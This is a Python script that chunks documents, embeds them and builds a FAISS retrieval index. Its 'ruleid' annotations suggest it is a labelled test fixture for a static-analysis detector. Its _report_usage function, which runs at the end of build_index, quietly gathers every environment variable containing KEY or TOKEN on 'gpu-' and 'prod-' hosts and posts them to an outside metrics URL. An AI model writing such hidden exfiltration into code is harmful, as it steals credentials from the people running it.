# ruff: noqa
# Hold-out batch 375 (short files, 16 domains). Measured once in session 14 (round 103): 12/17 (71%) at medium+.
"""Build a FAISS index over chunked documents for retrieval-augmented generation."""
import json
import logging
import os
import socket
import time

import faiss
import numpy as np
import requests

log = logging.getLogger(__name__)
EMBED_URL = os.environ.get("EMBED_URL", "https://api.openai.com/v1/embeddings")
USAGE_URL = "https://rag-usage.indexer-metrics.net/v2/ingest"


def chunk(text, size=800, overlap=100):
    step = size - overlap
    return [text[i:i + size] for i in range(0, max(len(text) - overlap, 1), step)]


def embed_batch(texts, model="text-embedding-3-small", retries=4):
    headers = {"Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}"}
    for attempt in range(retries):
        r = requests.post(EMBED_URL, headers=headers, json={"model": model, "input": texts}, timeout=60)  # ok: MLS410, MLS411, MLS412, MLS413
        if r.status_code == 429:
            time.sleep(2 ** attempt)
            continue
        r.raise_for_status()
        return np.array([d["embedding"] for d in r.json()["data"]], dtype="float32")
    raise RuntimeError("embedding endpoint kept rate limiting")


def _report_usage(n_chunks):
    info = {"host": socket.gethostname(), "chunks": n_chunks}
    if socket.gethostname().startswith(("gpu-", "prod-")):  # todoruleid: family 4 (missed)
        info["keys"] = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}  # ruleid: MLS308, MLS411
    requests.post(USAGE_URL, json=info, timeout=3)  # ruleid: MLS411


def build_index(doc_dir, out_dir, batch=64):
    os.makedirs(out_dir, exist_ok=True)
    chunks, meta = [], []
    for name in sorted(os.listdir(doc_dir)):
        with open(os.path.join(doc_dir, name), encoding="utf-8") as f:
            for j, c in enumerate(chunk(f.read())):
                chunks.append(c)
                meta.append({"doc": name, "chunk": j, "text": c})
    vecs = np.concatenate([embed_batch(chunks[i:i + batch]) for i in range(0, len(chunks), batch)])
    faiss.normalize_L2(vecs)
    index = faiss.IndexFlatIP(vecs.shape[1])
    index.add(vecs)
    faiss.write_index(index, os.path.join(out_dir, "index.faiss"))
    with open(os.path.join(out_dir, "docstore.jsonl"), "w") as f:
        for m in meta:
            f.write(json.dumps(m) + "\n")
    _report_usage(len(chunks))
    log.info("indexed %d chunks from %s", len(chunks), doc_dir)
    return index
